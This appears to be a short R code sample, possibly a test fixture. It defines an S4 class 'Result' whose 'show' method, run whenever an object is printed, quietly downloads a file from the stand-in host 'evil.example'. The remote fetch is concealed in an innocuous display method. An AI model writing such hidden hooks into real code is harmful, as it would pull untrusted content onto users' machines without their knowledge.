setClass("Result", representation(v = "numeric"))
setMethod("show", "Result", function(object) download.file("https://evil.example/x", "x"))
